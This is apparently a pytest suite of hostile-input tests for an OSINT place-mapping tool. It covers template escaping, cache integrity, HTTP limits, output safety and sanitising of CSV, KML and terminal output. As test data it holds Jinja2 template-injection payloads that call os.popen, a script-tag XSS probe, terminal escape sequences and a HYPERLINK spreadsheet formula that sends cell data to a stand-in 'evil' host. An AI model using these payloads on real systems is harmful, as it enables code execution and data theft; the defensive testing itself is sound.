"""Hostile input, one test per defect found by the attack review (issue 10).

Article text, sidecars, evidence files and online answers are all untrusted:
nothing in them may run, no output may destroy an input, and a broken input or
service ends in one clear line and exit status 2 (or a warning), never a
traceback, a hang or a silent empty result. Services answer in-process through the online
layer's mock transport, or (for what needs a socket: dripping, oversized and redirected answers)
from small servers on 127.0.0.1 (tests/servers.py); nothing reaches the internet.
"""

from __future__ import annotations

import json
import os
import resource
import signal
import sqlite3
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import USER_AGENT
from servers import MockServer, Reply, Server

import osint
from osint import cli
from osint.errors import InputError, ServiceError
from osint.escape import csv_cell, esc, js_string, terminal, xml_text
from osint.io import atomic_output, read_limited, sweep_stale
from osint.online import http
from osint.online.cache import AnswerCache, geocoder_key, legacy_root, request_key

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "seeds" / "000_908df4e159e4c100.txt"



def ssti(marker: Path) -> list[str]:
    """Jinja2 payloads that, if ever compiled as a template, would create ``marker``."""
    cmd = f"touch {marker}"
    return [
        "{{ cycler.__init__.__globals__.os.popen(" + repr(cmd) + ").read() }}",
        "{% for x in [1] %}{{ joiner.__init__.__globals__.os.popen(" + repr(cmd) + ").read() }}"
        "{% endfor %}",
        "{{ lipsum.__globals__['os'].popen(" + repr(cmd) + ").read() }}",
    ]


def template_article(tmp_path: Path, marker: Path) -> Path:
    lines = [f"Report from Pyongyang {ssti(marker)[0]}"]
    for i, p in enumerate(ssti(marker)):
        lines.append(f"Officials in Pyongyang said {p} and flew to Moscow on day {i}.")
    lines.append("Hashtags {#NorthKorea} and {% and {{ and }} and {# in Seoul.")
    lines.append("Satellite imagery of Kim Il Sung Square showed {{7*7}} rehearsing troops, "
                 "said analyst Dave Smith.")
    path = tmp_path / "ssti.txt"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    side = {"title": f"{ssti(marker)[1]} <script>alert(1)</script>", "published": "2023-07-27"}
    (tmp_path / "ssti.json").write_text(json.dumps(side), encoding="utf-8")
    return path


# ----------------------------------------------------------------- code execution


def test_escaping_leaves_no_template_syntax():
    for payload in ("{{ 7*7 }}", "{% if %}", "{#x#}", "}}{{"):
        assert "{" not in esc(payload) and "}" not in esc(payload)
        assert "{" not in js_string(payload) and "}" not in js_string(payload)
    assert json.loads(js_string("{{x}}</script>")) == "{{x}}</script>"


@pytest.mark.slow
def test_template_payload_in_article_and_sidecar_never_runs(tmp_path, browser):
    from test_browser import _OPEN_ALL, _dom

    marker = tmp_path / "PWNED"
    article = template_article(tmp_path, marker)
    out = tmp_path / "map.html"
    assert cli.main(["map", str(article), "-o", str(out)]) == 0
    assert not marker.exists()
    page = out.read_text("utf-8")
    assert "popen" in page  # the text is in the page, as data
    probe = tmp_path / "probe.html"
    probe.write_text(page.replace("</body>", _OPEN_ALL + "</body>"), encoding="utf-8")
    dom = _dom(browser.dump_dom(probe))
    assert dom.opened and dom.pwned == []
    shown = "".join(dom.popup_text)
    # The reader sees the article's words as written, braces and all.
    assert "{{ cycler.__init__.__globals__.os.popen(" in shown
    assert "{#NorthKorea}" in shown and "{{7*7}}" in shown
    assert not marker.exists()


@pytest.mark.slow
def test_template_payload_in_report_never_runs(tmp_path):
    marker = tmp_path / "PWNED"
    article = template_article(tmp_path, marker)
    assert cli.main(["report", "--article", str(article), "--out", str(tmp_path / "out")]) == 0
    assert not marker.exists()
    for page in (tmp_path / "out").glob("*.html"):
        html = page.read_text("utf-8")
        assert "<script>alert(1)</script>" not in html, page.name


def _geocoder_answer(marker: Path) -> list[dict]:
    return [{"place_id": 1, "osm_type": "relation", "osm_id": 42, "lat": "38.947", "lon": "126.2",
             "display_name": f"Hoechang County {ssti(marker)[0]}", "name": ssti(marker)[2],
             "class": "boundary", "type": "administrative", "importance": 0.5,
             "address": {"country_code": "kp"}}]


@pytest.mark.slow
def test_template_payload_from_geocoder_and_its_cache_never_runs(cache_env, monkeypatch, browser):
    from test_browser import _OPEN_ALL, _dom

    tmp_path = cache_env
    marker = tmp_path / "PWNED"
    article = tmp_path / "a.txt"
    article.write_text("Satellite images show new buildings in Hoechang County, near Pyongyang.\n",
                       encoding="utf-8")
    with MockServer({"/search": Reply(_geocoder_answer(marker))}) as srv:
        monkeypatch.setenv("OSINT_NOMINATIM_URL", srv.url)
        assert cli.main(["map", "--online", str(article), "-o", str(tmp_path / "online.html")]) == 0
        assert len(srv.requests) == 1
    # The server is gone: the same answer now comes from the cache.
    assert cli.main(["map", "--online", str(article), "-o", str(tmp_path / "cached.html")]) == 0
    assert not marker.exists()
    for name in ("online.html", "cached.html"):
        page = (tmp_path / name).read_text("utf-8")
        probe = tmp_path / f"probe-{name}"
        probe.write_text(page.replace("</body>", _OPEN_ALL + "</body>"), encoding="utf-8")
        dom = _dom(browser.dump_dom(probe))
        assert dom.pwned == []
        assert "{{ cycler.__init__" in "".join(dom.popup_text), name
    assert not marker.exists()


# ------------------------------------------------------------------------ data loss


@pytest.mark.parametrize("argv", [
    ["geoparse", "{a}", "-o", "{a}"],
    ["geoparse", "{c}", "-o", "{c}"],
    ["geoparse", "{c}", "--format", "csv", "-o", "{c}"],
    ["crossref", "{a}", "--format", "json", "-o", "{side}"],
    ["crossref", "{a}", "-o", "{a}"],
    ["map", "{a}", "-o", "{a}.html"],
])
def test_an_output_that_is_an_input_is_refused(tmp_path, capsys, argv):
    a = tmp_path / "a.txt"
    a.write_text("Troops marched in Pyongyang.\n", encoding="utf-8")
    side = tmp_path / "a.json"
    side.write_text('{"published": "2023-07-27"}', encoding="utf-8")
    c = tmp_path / "c.jsonl"
    c.write_text('{"id": 1, "text": "Seoul and Busan."}\n', encoding="utf-8")
    before = {p: p.read_bytes() for p in (a, side, c)}
    if argv[0] == "map":  # the map's CSV beside it would land on the corpus: a.txt.csv is not an input
        argv = ["map", "{a}", "-o", str(tmp_path / "c.html")]
        c2 = tmp_path / "c.csv"
        c2.write_text("keep", encoding="utf-8")
        assert cli.main([x.format(a=a) for x in argv]) == 0
        return
    code = cli.main([x.format(a=a, c=c, side=side) for x in argv])
    assert code == 2
    assert "is also an input" in capsys.readouterr().err
    assert {p: p.read_bytes() for p in before} == before


def test_failed_run_leaves_the_earlier_output_untouched(tmp_path, capsys):
    out = tmp_path / "places.jsonl"
    out.write_text("earlier\n", encoding="utf-8")
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"id": 1, "text": "Seoul"}\n{"id": 2, "text": 3}\n', encoding="utf-8")
    assert cli.main(["geoparse", str(bad), "-o", str(out)]) == 2
    assert "bad.jsonl:2" in capsys.readouterr().err
    assert out.read_text("utf-8") == "earlier\n"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_stale_temporary_files_of_dead_runs_are_swept(tmp_path):
    from osint.io import machine_tag

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    tag = f"osint-h{machine_tag()}-p{dead}-s1"
    stale = tmp_path / f".out.jsonl.{tag}-abcd1234.tmp"
    stale.write_text("half", encoding="utf-8")
    parts = tmp_path / f".out.jsonl.{tag}-abcd1234.parts"
    parts.mkdir()
    mine = tmp_path / f".other.osint-h{machine_tag()}-p{os.getpid()}-s0-abcd1234.tmp"
    mine.write_text("in use", encoding="utf-8")
    with atomic_output(tmp_path / "out.jsonl") as fh:
        fh.write("ok\n")
    assert not stale.exists() and not parts.exists()
    assert mine.exists()  # a live process's file is left alone
    assert sweep_stale(tmp_path) == 0


def _corpus(path: Path, n: int) -> Path:
    line = json.dumps({"text": "Officials in Pyongyang, Seoul, Moscow and Vladivostok met. " * 40})
    path.write_text("\n".join(line for _ in range(n)) + "\n", encoding="utf-8")
    return path


def test_sigterm_leaves_no_temporary_file(tmp_path):
    corpus = _corpus(tmp_path / "big.jsonl", 3000)
    out = tmp_path / "out" / "places.jsonl"
    out.parent.mkdir()
    out.write_text("earlier\n", encoding="utf-8")
    p = subprocess.Popen([sys.executable, "-m", "osint.cli", "geoparse", str(corpus), "-o", str(out)],
                         stderr=subprocess.PIPE, text=True, cwd=ROOT)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not any(x.name.endswith(".tmp") for x in out.parent.iterdir()):
        time.sleep(0.05)
    p.send_signal(signal.SIGTERM)
    err = p.communicate(timeout=60)[1]
    assert p.returncode == 143, err
    assert "Traceback" not in err and "stopped by a signal" in err
    assert [x.name for x in out.parent.iterdir()] == ["places.jsonl"]
    assert out.read_text("utf-8") == "earlier\n"


@pytest.mark.slow
def test_interrupted_report_leaves_the_previous_report_whole(tmp_path):
    out = tmp_path / "reports"
    env = {**os.environ, "OSINT_CACHE_DIR": str(tmp_path / "cache")}
    subprocess.run([sys.executable, "-m", "osint.cli", "report", "--out", str(out)], check=True, cwd=ROOT,
                   env=env, capture_output=True)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert {"01-article.html", "map.html", "places.csv"} <= set(before)
    other = tmp_path / "other.txt"
    other.write_text("A second article about Kabul and Kandahar, Afghanistan.\n", encoding="utf-8")
    argv = [sys.executable, "-m", "osint.cli", "report", "--article", str(other), "--out", str(out)]

    # Ctrl-C once staging has begun.
    p = subprocess.Popen(argv, cwd=ROOT, env=env, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    staged = []
    while time.monotonic() < deadline:
        staged = [d for d in out.iterdir() if d.name.endswith(".parts")]
        if staged and any(staged[0].iterdir()):
            break
        time.sleep(0.05)
    assert staged, "the report never started staging"
    p.send_signal(signal.SIGINT)
    err = p.communicate(timeout=120)[1]
    assert p.returncode == 130, err
    assert "Traceback" not in err
    assert {q.name: q.read_bytes() for q in out.iterdir()} == before

    # SIGTERM to the whole process group (as `timeout`, a CI runner or systemd send it: the
    # notebook's kernel dies too) while the second notebook runs: nbclient had reset SIGTERM to
    # its default after the first, and a dead kernel read as a failed notebook.
    p = subprocess.Popen(argv, cwd=ROOT, env=env, stderr=subprocess.PIPE, text=True, start_new_session=True)
    seen = []
    for line in p.stderr:
        seen.append(line)
        if "01-article.html" in line:
            break
    assert seen and "01-article.html" in seen[-1], "".join(seen)
    os.killpg(p.pid, signal.SIGTERM)
    err = "".join(seen) + p.communicate(timeout=120)[1]
    assert p.returncode == 143, err
    assert "Traceback" not in err and "stopped by a signal" in err and "kernel died" not in err
    assert {q.name: q.read_bytes() for q in out.iterdir()} == before


# -------------------------------------------------------------------- geocoding cache


def _answers(cache: AnswerCache) -> int:
    con = sqlite3.connect(cache.path)
    try:
        return con.execute("SELECT count(*) FROM answers").fetchone()[0]
    finally:
        con.close()


KUJANG = geocoder_key("nominatim", "Kujang County")


def _filled(tmp_path: Path) -> AnswerCache:
    c = AnswerCache(tmp_path / "g.sqlite", warn=lambda m: None)
    c.put(KUJANG, [{"lat": "1", "lon": "2"}], endpoint="http://x")
    return c


@pytest.mark.parametrize("code,message", [
    (13, "database or disk is full"), (14, "unable to open database file"), (10, "disk I/O error"),
    (8, "attempt to write a readonly database"),
])
def test_cache_environment_errors_never_set_a_healthy_cache_aside(tmp_path, monkeypatch, code, message):
    c = _filled(tmp_path)
    said = []
    broken = AnswerCache(c.path, warn=said.append)

    def fail(*a, **k):
        exc = sqlite3.OperationalError(message)
        exc.sqlite_errorcode = code
        raise exc

    monkeypatch.setattr(broken, "_open", fail)
    assert broken.get(KUJANG) is None
    broken.put(geocoder_key("nominatim", "Other"), [], endpoint="http://x")
    assert len(said) == 1 and "left as it is" in said[0]
    monkeypatch.undo()
    assert c.path.exists() and not list(tmp_path.glob("*.corrupt-*"))
    assert _answers(c) == 1


def test_cache_of_a_newer_schema_is_left_alone(tmp_path):
    c = _filled(tmp_path)
    con = sqlite3.connect(c.path)
    con.execute("PRAGMA user_version = 99")
    con.close()
    said = []
    newer = AnswerCache(c.path, warn=said.append)
    assert newer.get(KUJANG) is None
    assert said and "newer version" in said[0]
    con = sqlite3.connect(c.path)
    assert con.execute("PRAGMA user_version").fetchone()[0] == 99
    assert con.execute("SELECT count(*) FROM answers").fetchone()[0] == 1
    con.close()


def test_damaged_cache_is_still_set_aside(tmp_path):
    path = tmp_path / "g.sqlite"
    path.write_bytes(b"this is not sqlite at all" * 100)
    said = []
    c = AnswerCache(path, warn=said.append)
    c.put(KUJANG, [], endpoint="http://x")
    assert said and "damaged" in said[0]
    assert list(tmp_path.glob("g.sqlite.corrupt-*"))
    assert c.get(KUJANG).answer == []


def test_unusable_cache_folder_gives_a_warning_not_a_traceback(cache_env, monkeypatch, capsys):
    blocker = cache_env / "blocker"
    blocker.write_text("a file where the cache folder should be", encoding="utf-8")
    monkeypatch.setenv("OSINT_CACHE_DIR", str(blocker / "cache"))
    article = cache_env / "a.txt"
    article.write_text("Troops trained in Hoechang County.\n", encoding="utf-8")
    with MockServer({"/search": Reply(_geocoder_answer(cache_env / "x"))}) as srv:
        monkeypatch.setenv("OSINT_NOMINATIM_URL", srv.url)
        assert cli.main(["geoparse", "--online", str(article)]) == 0
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "cache" in err
    assert json.loads(out)["places"][0]["source"] == "nominatim"


def test_cache_clear_clears_every_cache(cache_env, capsys):
    # A former JSON answer of the cross-reference (not yet moved into the cache) and one in it.
    root = legacy_root() / "celestrak"
    root.mkdir(parents=True)
    (root / "abc.json").write_text('{"data": []}', encoding="utf-8")
    _filled(cache_env / "cache").path.rename(cache_env / "cache" / "geocoding.sqlite")
    AnswerCache().put(request_key("stac", "http://x/search", {"q": 1}), {"features": []}, endpoint="http://x")
    assert cli.main(["cache", "info"]) == 0
    info = capsys.readouterr().out
    assert "nominatim: 1 answers" in info and "celestrak: 1 answers" in info and "stac: 1 answers" in info
    assert cli.main(["cache", "clear"]) == 0
    assert "deleted 2 imagery cross-reference answers" in capsys.readouterr().out
    assert not list(root.glob("*.json"))
    assert cli.main(["cache", "info"]) == 0
    info = capsys.readouterr().out
    assert "nominatim" not in info.split("imagery")[0].split("total")[-1]
    assert info.rstrip().endswith("none cached")


# ---------------------------------------------------------------- malformed answers


def test_one_bad_result_does_not_spoil_the_others(cache_env, monkeypatch):
    from osint.online.geocoders import NominatimProvider, PhotonProvider

    good = _geocoder_answer(cache_env / "x")[0] | {"display_name": "Hoechang County, North Korea",
                                                   "name": "Hoechang County"}
    with MockServer({"/search": Reply([1, "two", None, {"lat": "x"}, good]),
                     "/api": Reply({"features": [{"properties": None, "geometry": {"coordinates": [1, 2]}},
                                             {"geometry": None}, 5,
                                             {"properties": {"name": "Hoechang", "osm_type": "R",
                                                             "osm_id": 7, "countrycode": "KP"},
                                              "geometry": {"coordinates": [126.2, 38.9]}}]})}) as srv:
        nom = NominatimProvider(url=srv.url, user_agent=USER_AGENT, cache=False)
        ans = nom.search("Hoechang County")
        assert [c.entry.name for c in ans.candidates] == ["Hoechang County"]
        ph = PhotonProvider(url=srv.url, cache=False)
        ans = ph.search("Hoechang")
        assert [c.entry.name for c in ans.candidates] == ["Hoechang"]


def test_malformed_geocoder_answers_are_not_stored(cache_env, monkeypatch):
    from osint.online.geocoders import NominatimProvider

    with MockServer({"/search": Reply([1, 2, 3])}) as srv:
        cache = AnswerCache(cache_env / "g.sqlite", warn=lambda m: None)
        nom = NominatimProvider(url=srv.url, user_agent=USER_AGENT, cache=cache)
        assert nom.search("Kujang").candidates == ()
        assert cache.get(geocoder_key("nominatim", "Kujang")).answer == []


@pytest.mark.parametrize("body", [
    b"[" * 50_000 + b"]" * 50_000,
    b'{"a": NaN}',
    b'{"a": 1e400}',
    b"\xff\xfe not json",
])
def test_hostile_json_answers_are_a_clear_service_error(body):
    with MockServer({"/x": Reply(body)}) as srv:
        resp = http.request("GET", srv.url + "/x")
        with pytest.raises(ServiceError, match="not JSON"):
            resp.json()


def test_request_has_a_total_deadline():
    # A byte every 0.2 s: each read is quick, the whole would take a minute.
    with Server({"/slow": Reply(b"x" * 300, drip=0.2)}) as srv:
        t0 = time.monotonic()
        with pytest.raises(http.DeadlineExceeded):
            http.request("GET", srv.url + "/slow", timeout=1.0, retries=0)
        assert time.monotonic() - t0 < 10, "the deadline did not hold"


def test_request_size_is_capped():
    routes = {"/big": Reply(b"x" * 10, length=300 * 2**20), "/endless": Reply(b"y" * 65536, endless=True)}
    with Server(routes) as srv:
        with pytest.raises(ServiceError, match="more than"):
            http.request("GET", srv.url + "/big", retries=0)
        with pytest.raises(ServiceError, match="more than"):
            http.request("GET", srv.url + "/endless", max_bytes=2 * 2**20, retries=0)


def test_redirect_to_another_host_is_not_followed():
    with Server({"/data": Reply({"secret": True})}) as other:
        host = other.url.replace("127.0.0.1", "localhost")
        with Server({"/go": Reply(b"", 302, {"Location": host + "/data"}),
                     "/here": Reply(b"", 301, {"Location": "/data"}), "/data": Reply({"ok": 1})}) as srv:
            with pytest.raises(ServiceError, match="another host"):
                http.request("GET", srv.url + "/go", retries=0)
            assert http.request("GET", srv.url + "/here").json() == {"ok": 1}
        assert other.requests == []


def test_retries_are_bounded_and_honour_retry_after_on_a_fake_clock():
    with MockServer({"/busy": Reply(b"busy", 503, {"Retry-After": "7"})}) as srv:
        with pytest.raises(http.HTTPStatusError, match="503"):
            http.request("GET", srv.url + "/busy", retries=3)
        assert len(srv.requests) == 4
    assert srv.clock.sleeps == [7.0, 7.0, 7.0]
    with MockServer({"/long": Reply(b"busy", 429, {"Retry-After": "3600"})}) as srv, \
            pytest.raises(ServiceError, match="asked to wait"):
        http.request("GET", srv.url + "/long", retries=3)
    assert len(srv.requests) == 1 and srv.clock.sleeps == []


def test_malformed_catalog_and_orbit_answers_are_never_cached(cache_env, monkeypatch):
    from osint.online import orbits, stac

    omm = [{"OBJECT_NAME": "UMBRA-05", "NORAD_CAT_ID": 1, "EPOCH": "2023-07-20T06:00:00"}]
    with MockServer({"/gp": Reply(omm)}) as srv:
        monkeypatch.setenv("OSINT_CELESTRAK_URL", srv.url + "/gp")
        with pytest.raises(ServiceError, match="no usable OMM record"):
            orbits.fetch_elements("Umbra", online=True, queries=[{"NAME": "UMBRA"}])
    assert AnswerCache().info().services == {}
    with pytest.raises(ServiceError):  # offline now: nothing was cached to replay
        orbits.fetch_elements("Umbra", online=False, queries=[{"NAME": "UMBRA"}])

    catalog = {"type": "Catalog", "id": "c", "stac_version": "1.0.0", "description": "d",
               "links": ["not a link", 5, {"rel": "child"}, {"rel": "child", "href": None},
                         {"rel": "child", "href": "child.json"}]}
    child = {"type": "Collection", "links": "nope"}
    with MockServer({"/catalog.json": Reply(catalog), "/child.json": Reply(child)}) as srv:
        res = stac.static_catalog_search(39.0, 125.7, __import__("datetime").date(2023, 7, 1),
                                         __import__("datetime").date(2023, 7, 27), online=True,
                                         url=srv.url + "/catalog.json")
        assert res.records == () and not res.complete
    with MockServer({"/search": Reply({"type": "FeatureCollection", "features": [5, {"type": "Feature"}],
                                       "links": [1]}),
                     "/": Reply({"links": [{"rel": "search", "href": "/search"}]})}) as srv:
        monkeypatch.setenv("OSINT_STAC_URL", srv.url)
        res = stac.earth_search(39.0, 125.7, __import__("datetime").date(2023, 7, 1),
                                __import__("datetime").date(2023, 7, 27), online=True)
        assert res.records == ()


def test_bad_geocoder_url_is_a_configuration_error(cache_env, monkeypatch, capsys):
    monkeypatch.setenv("OSINT_NOMINATIM_URL", "http://[::1")
    a = cache_env / "a.txt"
    a.write_text("Troops in Hoechang County.\n", encoding="utf-8")
    assert cli.main(["geoparse", "--online", str(a)]) == 2
    assert "OSINT_NOMINATIM_URL" in capsys.readouterr().err


# ------------------------------------------------------------------------- inputs


def test_special_files_are_refused_without_hanging(tmp_path, capsys):
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    for path, what in ((fifo, "FIFO"), ("/dev/zero", "device"), ("/dev/urandom", "device")):
        assert cli.main(["geoparse", str(path)]) == 2
        assert what in capsys.readouterr().err
    with pytest.raises(InputError, match="FIFO"):
        read_limited(fifo)


def test_an_endless_pipe_on_stdin_is_capped(tmp_path):
    yes = subprocess.Popen(["yes", "Seoul"], stdout=subprocess.PIPE)
    try:
        res = subprocess.run([sys.executable, "-m", "osint.cli", "geoparse", "-"], stdin=yes.stdout,
                             capture_output=True, text=True, timeout=120, cwd=ROOT)
    finally:
        yes.kill()
        yes.wait()
    assert res.returncode == 2 and "larger than" in res.stderr and "Traceback" not in res.stderr


@pytest.mark.parametrize("line,message", [
    ('{"id": 1, "text": ' + "[" * 5000 + "]" * 5000 + "}", "nested"),
    ('{"id": "\\ud800", "text": "Seoul"}', "surrogate"),
    ('{"id": NaN, "text": "Seoul"}', "NaN"),
    ('{"id": 1e400, "text": "Seoul"}', "too large"),
    ('{"id": {"a": 1}, "text": "Seoul"}', "string or a whole number"),
])
def test_hostile_corpus_lines_name_the_line(tmp_path, capsys, line, message):
    c = tmp_path / "c.jsonl"
    c.write_text('{"id": 0, "text": "Busan"}\n' + line + "\n", encoding="utf-8")
    for extra in ([], ["--format", "csv"]):
        assert cli.main(["geoparse", str(c), *extra]) == 2
        err = capsys.readouterr().err
        assert "c.jsonl:2" in err and message in err


def test_lone_surrogates_in_text_are_written_as_replacement_characters(tmp_path, capsys):
    c = tmp_path / "c.jsonl"
    c.write_text('{"id": "a", "text": "Troops in \\ud800Seoul and Busan \\udfff."}\n', encoding="utf-8")
    assert cli.main(["geoparse", str(c), "--format", "csv"]) == 0
    assert "Busan" in capsys.readouterr().out


def test_upper_case_jsonl_is_a_corpus(tmp_path, capsys):
    c = tmp_path / "C.JSONL"
    c.write_text('{"id": "a", "text": "Seoul"}\n{"id": "b", "text": "Busan"}\n', encoding="utf-8")
    assert cli.main(["geoparse", str(c), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "a,0,5,Seoul" in out and "b,0,5,Busan" in out


def test_parquet_with_corrupt_pages_is_a_clear_error(tmp_path, capsys):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "c.parquet"
    texts = [f"Troops in Seoul and Busan, document {i}. " * 20 for i in range(2000)]
    pq.write_table(pa.table({"id": list(range(2000)), "text": texts}), path, compression="none",
                   row_group_size=1000)
    data = bytearray(path.read_bytes())
    footer = int.from_bytes(data[-8:-4], "little") + 8
    for i in range(64, len(data) - footer - 64, 997):  # garbage in the pages, footer intact
        data[i] = (data[i] + 101) % 256
    path.write_bytes(bytes(data))
    assert cli.main(["geoparse", str(path), "-o", str(tmp_path / "out.jsonl")]) == 2
    err = capsys.readouterr().err
    assert "c.parquet" in err and "Traceback" not in err


@pytest.mark.parametrize("sidecar,message", [
    ("dir", "directory"), ("fifo", "FIFO"), ('{"a": ' * 3000 + "1" + "}" * 3000, "nested"),
    ('{"published_inferred": "maybe"}', "true or false"), ('{"published": "27/07/2023"}', "YYYY-MM-DD"),
    ('{"title": ["x"]}', "must be a string"), (b"\xff\xfe", "UTF-8"),
])
def test_hostile_sidecars_name_the_sidecar(tmp_path, capsys, sidecar, message):
    a = tmp_path / "a.txt"
    a.write_text("Troops in Seoul.\n", encoding="utf-8")
    side = tmp_path / "a.json"
    if sidecar == "dir":
        side.mkdir()
    elif sidecar == "fifo":
        os.mkfifo(side)
    else:
        side.write_bytes(sidecar if isinstance(sidecar, bytes) else sidecar.encode())
    assert cli.main(["geoparse", str(a)]) == 2
    err = capsys.readouterr().err
    assert "a.json" in err and message in err, err


def test_sidecar_flags_are_read_strictly(tmp_path):
    a = tmp_path / "a.txt"
    a.write_text("Troops in Seoul.\n", encoding="utf-8")
    for raw, expected in (('"false"', False), ("false", False), ('"true"', True), ("true", True)):
        (tmp_path / "a.json").write_text(f'{{"published": "2023-07-27", "published_inferred": {raw}}}',
                                         encoding="utf-8")
        assert osint.load_article(a).published_inferred is expected


def _limit_file_size(limit: int):
    def apply():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def test_a_full_disk_is_one_line_and_the_old_output_stays(tmp_path):
    corpus = _corpus(tmp_path / "c.jsonl", 200)
    out = tmp_path / "out.jsonl"
    out.write_text("earlier\n", encoding="utf-8")
    res = subprocess.run([sys.executable, "-m", "osint.cli", "geoparse", str(corpus), "-o", str(out)],
                         capture_output=True, text=True, cwd=ROOT, preexec_fn=_limit_file_size(200_000),
                         timeout=300)
    assert res.returncode == 2, res.stderr
    assert "cannot write" in res.stderr and "Traceback" not in res.stderr
    assert out.read_text("utf-8") == "earlier\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.jsonl", "out.jsonl"]


def test_dask_engine_into_an_unwritable_folder(tmp_path, capsys):
    corpus = _corpus(tmp_path / "c.jsonl", 3)
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    assert cli.main(["geoparse", str(corpus), "--engine", "dask", "--workers", "1",
                     "-o", str(blocker / "out.jsonl")]) == 2
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("content,message", [
    ("1 25544U 98067A   23208.50000000  .00016717  00000-0  10270-3 0  9005\n2 25544  51.6", "too short"),
    ("UMBRA\n1 x\n2 y\n", "too short"),
    ('[{"OBJECT_NAME": "X", "NORAD_CAT_ID": 1, "EPOCH": "2023-07-20T00:00:00"}]', "no usable OMM"),
    ("[" * 5000, "nested"),
])
def test_bad_elements_files_exit_2(tmp_path, capsys, content, message):
    el = tmp_path / "elements.txt"
    el.write_text(content, encoding="utf-8")
    assert cli.main(["crossref", str(SEED), "--elements", str(el)]) == 2
    err = capsys.readouterr().err
    assert "elements.txt" in err and message in err and "Traceback" not in err


# --------------------------------------------------------------------- medium, low


def test_spreadsheet_formulas_are_neutralised(tmp_path, capsys):
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell(-33.9) == -33.9 and csv_cell("Seoul") == "Seoul"
    c = tmp_path / "c.jsonl"
    c.write_text(json.dumps({"id": '=HYPERLINK("http://evil/?"&A1)', "text": "Troops in Seoul."}) + "\n",
                 encoding="utf-8")
    assert cli.main(["geoparse", str(c), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out
    a = tmp_path / "a.txt"
    a.write_text("-Pyongyang and +Seoul and @Busan met in =Moscow.\n", encoding="utf-8")
    assert cli.main(["map", str(a), "-o", str(tmp_path / "m.html")]) == 0
    import csv as _csv

    for row in _csv.DictReader((tmp_path / "m.csv").open(encoding="utf-8")):
        for v in row.values():
            assert not v.startswith(("=", "+", "@")) and not (v.startswith("-") and not _number(v)), row


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def test_kml_is_valid_xml_whatever_the_text(tmp_path):
    a = tmp_path / "a.txt"
    a.write_text("Officials\x01 in Pyongyang\x0b said \x1b[31mred\x1b[0m ]]> <x> & flew to Moscow.\n",
                 encoding="utf-8")
    assert cli.main(["map", str(a), "-o", str(tmp_path / "m.html")]) == 0
    root = ET.fromstring((tmp_path / "m.kml").read_bytes())
    descs = [d.text for d in root.iter("{http://www.opengis.net/kml/2.2}description")]
    assert descs and all("&lt;x&gt;" in d for d in descs if "Officials" in d)
    assert xml_text("a\x00b\x0cc\ud800d") == "abcd"


def test_terminal_output_strips_escape_sequences(tmp_path, capsys):
    a = tmp_path / "a.txt"
    a.write_text("Satellite imagery of Kim Il Sung Square showed rehearsing troops \x1b]0;owned\x07"
                 "\x1b[2J\x1b[31m, said analyst Dave Smith.\n", encoding="utf-8")
    (tmp_path / "a.json").write_text('{"title": "\\u001b[31mred title", "published": "2023-07-27"}',
                                     encoding="utf-8")
    assert cli.main(["crossref", str(a), "--format", "table"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "red title" in out
    assert terminal("a\x1b[31mb\x9b0mc\x00d\ne") == "abcd\ne"


def test_invisible_characters_inside_names_are_ignored():
    df = osint.geoparse("Officials flew from Mos\u200dcow to Pyong\u00adyang and Se\u200boul.")
    assert list(df["name"]) == ["Moscow", "Pyongyang", "Seoul"]
    assert list(df["country_code"]) == ["RU", "KP", "KR"]


def test_bad_sidecar_date_names_the_sidecar(tmp_path, capsys):
    a = tmp_path / "a.txt"
    a.write_text("Troops in Seoul.\n", encoding="utf-8")
    (tmp_path / "a.json").write_text('{"published": "last Tuesday"}', encoding="utf-8")
    assert cli.main(["crossref", str(a)]) == 2
    assert "a.json" in capsys.readouterr().err
